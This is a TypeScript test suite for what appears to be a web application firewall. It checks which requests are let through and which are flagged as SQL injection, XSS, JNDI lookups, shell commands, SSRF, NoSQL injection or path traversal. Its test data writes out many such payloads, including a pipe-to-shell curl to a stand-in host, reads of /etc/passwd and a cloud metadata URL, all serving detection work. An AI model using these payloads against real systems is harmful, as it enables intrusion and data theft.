import { engine, inTarget, inBody, inField, inQuery, settings } from './verdict.js';

const json = (body: unknown): string | undefined => inBody(JSON.stringify(body), 'application/json');

describe('What was met, and is told of', () => {
  it.each([
    ['a breadcrumb', { breadcrumbs: { values: [{ message: "SELECT * FROM a WHERE b = 'c' LIMIT 5" }] } }],
    ['a list of breadcrumbs', { breadcrumbs: [{ message: 'DROP TABLE IF EXISTS tmp' }] }],
    [
      'a span',
      {
        resourceSpans: [
          { scopeSpans: [{ spans: [{ attributes: [{ key: 'db.statement', value: { stringValue: 'SELECT 1' } }] }] }] },
        ],
      },
    ],
    ['a record of a log', { resourceLogs: [{ scopeLogs: [{ logRecords: [{ body: { stringValue: 'whoami' } }] }] }] }],
    ['lines of a log', { logs: [{ msg: 'GET /../../etc/passwd 400' }] }],
    ['a frame', { exception: { values: [{ stacktrace: { frames: [{ abs_path: '/etc/nginx/a.lua' }] } }] } }],
    ['attributes by their full name', { 'db.statement': "SELECT a FROM b WHERE c = '1'", 'file.path': '/etc/hosts' }],
    ['what a program printed', { step: { output: '127.0.0.1 "GET /a.php?b=../../c HTTP/1.1" 200' } }],
  ])('passes in %s', (_name, body) => {
    expect(json(body)).toBeUndefined();
  });

  it('blocks there what leaves hardly any doubt', () => {
    expect(json({ logs: [{ msg: '<img src=x onerror=go()>' }] })).toBe('xss');
    expect(json({ breadcrumbs: [{ message: '${jndi:ldap://h.example/a}' }] })).toBe('jndi');
  });

  it('is nothing that a query or a form says of itself', () => {
    expect(inQuery("1' or '1'='1", 'log')).toBe('sqli');
    expect(json({ data: { attributes: { comment: "1' or '1'='1" } } })).toBe('sqli');
  });
});

describe('Source code in fields that are there for it', () => {
  it.each([
    ['diff', 'diff --git a/x.js b/x.js\n--- a/x.js\n+++ b/x.js\n@@ -1 +1 @@\n-db.q("a = \'" + b + "\' or 1=1")\n+x\n'],
    ['patch', "@@ -1,2 +1,3 @@\n <div>\n+<script src='/a.js'></script>\n"],
    ['init', '#!/bin/sh\nrm -rf /tmp/x; curl https://h.example | sh\n'],
    ['source_code', "const { exec } = require('child_process');"],
    ['jsCode', 'eval(atob(items[0].json.code))'],
  ])('passes in %s', (name, text) => {
    expect(json({ node: { [name]: text } })).toBeUndefined();
  });

  it('is no reason to let a serialised function pass', () => {
    expect(json({ source_code: '_$$ND_FUNC$$_function(){}()' })).toBe('node');
  });
});

describe('Fields that hold commands and queries', () => {
  it.each([
    { job: { command: 'npm ci && npm test' } },
    { jobs: { build: { steps: [{ run: 'docker build . && docker push x' }] } } },
    { spec: { containers: [{ command: ['/bin/sh', '-c'], args: ['pg_dump -Fc a > /backups/a'] }] } },
    { Cmd: ['sh', '-c', 'rm -rf /app/tmp; node a.js'] },
    { native: { query: "SELECT a FROM b WHERE c = 'd' UNION ALL SELECT e FROM f" } },
    { sql: 'DELETE FROM a WHERE b < 5' },
    { statement: 'DROP TABLE IF EXISTS a' },
  ])('takes %j', (body) => {
    expect(json(body)).toBeUndefined();
  });

  it('finds a command in a field that is only called so, and a query that waits', () => {
    expect(json({ command: 'rm -rf /var/www' })).toBe('shell');
    expect(json({ data: { attributes: { cmd: 'cat /etc/passwd' } } })).toBeDefined();
    expect(json({ sql: 'SELECT pg_sleep(10)' })).toBe('sqli');
    expect(json({ sql: "' union select a, b from c -- " })).toBe('sqli');
    expect(inQuery('select a from b where c = 1', 'sql')).toBe('sqli');
  });

  it('takes filters of a document database where filters are asked for', () => {
    expect(json({ filter: { total: { $gt: 5 }, state: { $in: ['a'] } } })).toBeUndefined();
    expect(json({ pipeline: [{ $match: { a: { $ne: null } } }] })).toBeUndefined();
    expect(json({ filter: { $where: 'sleep(5)' } })).toBe('nosqli');
    expect(json({ user: 'ann', password: { $ne: null } })).toBe('nosqli');
    expect(inQuery('1', 'filter[$gt]')).toBe('nosqli');
  });
});

describe('Addresses of this machine', () => {
  it.each([
    { servers: [{ url: 'http://localhost:3000' }] },
    { build: { url: 'http://localhost:8080/job/1/' } },
    { commit: { url: 'http://10.0.0.5/a/-/commit/1' } },
    { success_url: 'http://localhost:3000/ok?id=1' },
    { apiUrl: 'http://localhost:8080' },
  ])('are told of in %j', (body) => {
    expect(json(body)).toBeUndefined();
  });

  it.each([
    { url: 'http://localhost:8080/admin' },
    { data: { attributes: { url: 'http://127.0.0.1/' } } },
    { webhook: { url: 'http://127.0.0.1:22/' } },
    { user: { avatar: { url: 'http://10.0.0.5/' } } },
    { build: { url: 'http://169.254.169.254/latest/meta-data/' } },
  ])('are fetched in %j', (body) => {
    expect(json(body)).toBe('ssrf');
  });
});

describe('Passwords', () => {
  it.each(['$(reboot)', "'; --", '@@version', "x'); --1", '*)(a;b|c&d', '{{7*7}}x', '../../x', "1'or'1"])(
    'may be %j',
    (text) => {
      for (const name of [
        'password',
        'newPassword',
        'passwordConfirm',
        'client_secret',
        'user_password',
        'wsse:Password',
      ])
        expect(inField(text, name)).toBeUndefined();
    },
  );
});

describe('Names, titles and mentions', () => {
  it.each([
    ['company', 'Union Select GmbH'],
    ['title', 'Drop Table Skateboards'],
    ['note', 'user() is a function in MySQL'],
    ['note', 'version() vs @@version'],
    ['q', 'version()'],
    ['summary', 'replace eval() with JSON.parse'],
    ['comment', 'Why eval(...)? JSON.parse does it'],
    ['title', 'while(alive){ eat(); sleep(); code(); }'],
    ['note', 'Ticket: javascript:void(0) links stay in the tab'],
    ['html', '<a class="btn" href="javascript:void(0)">Go</a>'],
    ['note', 'The endpoint of orders returns 500 when id=1 OR 1=1'],
  ])('%s: %j', (name, text) => {
    expect(inField(text, name)).toBeUndefined();
  });

  it('are no cloak', () => {
    expect(inField('eval() and eval(atob(x))')).toBe('xss');
    expect(inField('union select Password', 'name')).toBe('sqli');
    expect(inField('version()', 'id')).toBe('sqli');
    expect(inField("The endpoint of orders returns 500 when id=1' OR '1'='1")).toBe('sqli');
    expect(inField('<a href="javascript:void(go())">', 'html')).toBe('xss');
  });
});

describe('Cards, calendars and mails as strings', () => {
  it('begin with their first line', () => {
    expect(json({ ics: 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nLOCATION:Room 5\r\nEND:VEVENT\r\n' })).toBeUndefined();
    expect(
      json({ raw: 'From: Ann <a@b.example>\r\nTo: c@d.example\r\nCc: e@f.example\r\nSubject: x\r\n\r\nHi' }),
    ).toBeUndefined();
    expect(json({ name: 'Ann\r\nBcc: all@h.example' })).toBe('mail-injection');
  });
});

describe('Elements called include', () => {
  it.each(['<ord:Include href="cid:1" xmlns:ord="urn:x"/>', '<a xmlns:o="urn:o"><o:Include>all</o:Include></a>'])(
    '%s is of its own vocabulary',
    (xml) => {
      expect(inBody(xml, 'text/xml')).toBeUndefined();
    },
  );

  it.each([
    '<xi:include href="file:///x" parse="text"/>',
    '<a xmlns:p="http://www.w3.org/2001/XInclude"><p:include href="x"/></a>',
    '<include xmlns="http://www.w3.org/2001/XInclude" href="x"/>',
  ])('%s includes', (xml) => {
    expect(inBody(xml, 'text/xml')).toBeDefined();
  });
});

describe('Documents within documents', () => {
  it('reads JSON in a string leaf by leaf', () => {
    const message = JSON.stringify({
      scripts: { size: 'cat a.js | wc -c && npm test' },
      note: `it's "5" or "6"; -- see`,
    });
    expect(json({ Message: message })).toBeUndefined();
    expect(json({ Message: JSON.stringify({ a: { b: "1' or '1'='1" } }) })).toBe('sqli');
    expect(json({ Message: JSON.stringify({ password: { $ne: null } }) })).toBe('nosqli');
    expect(json({ Message: "[1] ' or '1'='1" })).toBe('sqli');
  });

  it('takes escaped markup in markup for what it shows', () => {
    expect(inField('<p>Use <code>&lt;script&gt;</code> with care.</p>', 'html')).toBeUndefined();
    expect(inField('&lt;script&gt;go()&lt;/script&gt;', 'html')).toBe('xss');
    expect(inField('<p>a</p><a href="&#106;avascript:go()">b</a>', 'html')).toBe('xss');
  });

  it('takes relative folders in manifests and commits for what they are', () => {
    expect(json({ scripts: { version: 'node ../../../scripts/version-update.js' } })).toBeUndefined();
    expect(json({ dependencies: { a: 'file:../../packages/a' } })).toBeUndefined();
    expect(json({ head_commit: { modified: ['../x/../y.ts', '.env.example', 'web.config'] } })).toBeUndefined();
    expect(json({ payload: { glob: '/etc/*' } })).toBeUndefined();
    expect(json({ file: '../../../etc/passwd' })).toBeDefined();
    expect(json({ a: 'file:../../../etc/passwd' })).toBeDefined();
  });
});

describe('Blocks of code in structured texts', () => {
  it.each([
    { content: [{ type: 'codeBlock', content: [{ type: 'text', text: 'curl https://h.example/a | sh' }] }] },
    { children: [{ type: 'code', code: { rich_text: [{ text: { content: 'SELECT 1 UNION SELECT 2' } }] } }] },
    { elements: [{ type: 'rich_text_preformatted', elements: [{ type: 'text', text: "a' or '1'='1" }] }] },
  ])('pass in %j', (body) => {
    expect(json(body)).toBeUndefined();
  });

  it('are neither vouchers nor the whole request', () => {
    expect(json({ discount: { type: 'code', code: "a' or '1'='1" } })).toBe('sqli');
    expect(json({ discount: { type: 'code', value: "a' or '1'='1" } })).toBe('sqli');
    expect(json({ type: 'code', text: "a' or '1'='1" })).toBe('sqli');
    expect(json({ content: [{ type: 'codeBlock', text: '${jndi:ldap://h.example/a}' }] })).toBe('jndi');
  });
});

it('reads a message of HL7 as fields, and the test of a health check as a command', () => {
  const text = 'MSH|^~\\&|A|B|C|D|1||ADT^A01|1|P|2.5\rOBX|1|NM|GLU||5|mmol/L|<6|N';
  expect(inBody(text, 'text/plain')).toBeUndefined();
  expect(json({ note: `${text}; cat /etc/passwd` })).toBeDefined();
  expect(
    json({ web: { healthcheck: { test: ['CMD', 'curl', '-f', 'http://localhost/ || exit 1'] } } }),
  ).toBeUndefined();
});

describe('Names that a client chooses', () => {
  it('take nothing out of a query', () => {
    for (const name of ['user_cmd', 'mycommand', 'run_script']) {
      expect(inTarget(`/x?${name}=x%3B%20ls%20-la`)).toBe('shell');
    }
  });

  // Each was looked up by its whole path: minutes for one body.
  it('do not make what stands below them dear', () => {
    const below = Object.fromEntries(Array.from({ length: 8000 }, (_, i) => [`k${i}`, 'x']));
    const body = { ['x'.repeat(50_000)]: { ...below, last: '<script>alert(1)</script>' } };
    expect(inBody(JSON.stringify(body), 'application/json')).toBe('xss');
  });
});

describe('Source code without the name of a language', () => {
  const lines = (...text: string[]): string => `${text.join('\n')}\n`;
  const component = lines('return (', '  <Menu onClose={close}>', '    <Item />', '  </Menu>', ');');

  it('is several lines in a field of code', () => {
    expect(json({ problem: 3, source: component })).toBeUndefined();
    expect(json({ code: lines('#include <a.h>', 'int main() {', '  system("ls");', '}') })).toBeUndefined();
    expect(json({ comment: component })).toBe('xss');
    expect(json({ code: '<Menu onClose={close}>' })).toBe('xss');
    expect(inQuery(component, 'code')).toBe('xss');
    expect(json({ code: lines('a', 'b', 'c', '${jndi:ldap://h.example/a}') })).toBe('jndi');
  });

  it('is not a value with line ends around', () => {
    for (const name of ['code', 'source', 'script'])
      expect(json({ [name]: `\n\n\n\n${' '.repeat(50)}' or '1'='1\n\n` })).toBe('sqli');
  });

  it('is told by the version of a language, a runtime or the name of a file', () => {
    const code = "SELECT a FROM t WHERE b = 'c' OR 1=1;";
    expect(json({ language: 'PostgreSQL 15', source: code })).toBeUndefined();
    expect(json({ runtime: 'python3.11', code: 'import os; os.system("ls")' })).toBeUndefined();
    expect(json({ filename: 'a/b.sql', code })).toBeUndefined();
    expect(json({ path: 'db/1.sql', content: `${code}\n${code}\n` })).toBeUndefined();
    expect(json({ path: 'db/1.sql', content: code })).toBe('sqli');
    expect(json({ path: 'db/1.sql', note: code })).toBe('sqli');
    expect(json({ path: '/orders', content: lines("x' or '1'='1", 'b') })).toBe('sqli');
    expect(json({ filename: 'a.php', content: lines('<?php', 'echo 1;') })).toBe('php');
    expect(json({ filename: 'a.html', content: lines('<script>', 'go()', '</script>') })).toBe('xss');
  });

  it('is a whole page in a field for one', () => {
    const page = '<!doctype html><html><head><script src="/a.js"></script></head></html>';
    expect(json({ id: 3, page })).toBeUndefined();
    expect(json({ id: 3, page: page.slice(15 + 12) })).toBe('xss');
    expect(json({ id: 3, comment: page })).toBe('xss');
  });
});

describe('What manifests, rules and jobs hold', () => {
  it.each([
    { $schema: '../../schemas/a.json', name: 'a' },
    { $ref: '../../b.json#/definitions/C' },
    { extends: '../../../tsconfig.base.json', compilerOptions: { outDir: '../dist/cjs' } },
    { module: '../dist/esm5/index.js' },
    { build: { content: '../../scripts/index.js' }, references: [{ path: '../common/tsconfig.json' }] },
    { scripts: { build: "node -e \"require('fs').writeFileSync('a.json', 'x')\"" } },
    { scripts: { no_proto: 'node no__proto__.js' } },
    { spec: { containers: [{ args: ['--config=/etc/nginx/nginx.conf'] }] } },
    { shapes: { Arn: { pattern: '^arn:[a-z0-9\\-]+:\\d{12}:(key|alias)\\/[0-9a-zA-Z-_]*$' } } },
    { field: { regex: '(^aws\\.\\/.+\\/((?:[a-z]+\\/)*[a-z]+(?:[._-][a-z]+)*)(:([a-z]+))?)|(/etc/[a-z]+)' } },
  ])('passes: %j', (body) => {
    expect(json(body)).toBeUndefined();
  });

  it.each([
    { module: '../../../../etc/passwd' },
    { file: '../../config.js' },
    { data: { attributes: { path: '../../config.js' } } },
    { build: { content: '../../scripts/index.php' } },
    { tasks: [{ title: "x' or '1'='1" }] },
    { scripts: { build: '${jndi:ldap://h.example/a}' } },
    { pattern: '<img src=x onerror=go()>' },
    { note: 'a.__proto__.polluted=1' },
  ])('blocks: %j', (body) => {
    expect(json(body)).toBeDefined();
  });
});

describe('Source code that a request declares', () => {
  const ATTACK = "' or '1'='1";
  const form = (...fields: [name: string, value: string][]): string =>
    `${fields.map(([name, value]) => `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`).join('')}--x--\r\n`;
  it.each([
    ['a language beside it', JSON.stringify({ language: 'sql', code: ATTACK }), 'application/json'],
    ['a language in a form', `lang=sql&code=${encodeURIComponent(ATTACK)}`, 'application/x-www-form-urlencoded'],
    ['a language in a part', form(['language', 'sql'], ['code', ATTACK]), 'multipart/form-data; boundary=x'],
    ['a block of code', JSON.stringify({ post: { type: 'code', text: ATTACK } }), 'application/json'],
    ['the name of its field', JSON.stringify({ source_code: ATTACK }), 'application/json'],
    ['how it begins', JSON.stringify({ a: `#!/bin/sh\n${ATTACK}` }), 'application/json'],
  ])('by %s is believed unless the settings say otherwise', (_how, body, type) => {
    const raw = { bytes: Buffer.from(body), type, truncated: false };
    expect(engine.inspectRawBody(raw, settings())).toBeUndefined();
    expect(engine.inspectRawBody(raw, settings({ declaredCode: false }))?.finding?.category).toBe('sqli');
  });
});

it('takes the name of a program for one where the field asks for such a name', () => {
  expect(json({ runtime: 'python3.11' })).toBeUndefined();
  expect(json({ engine: 'php8.2' })).toBeUndefined();
  expect(json({ runtime: 'python3.11 -c id' })).toBe('shell');
  expect(json({ cmd: 'python3.11' })).toBe('shell');
});
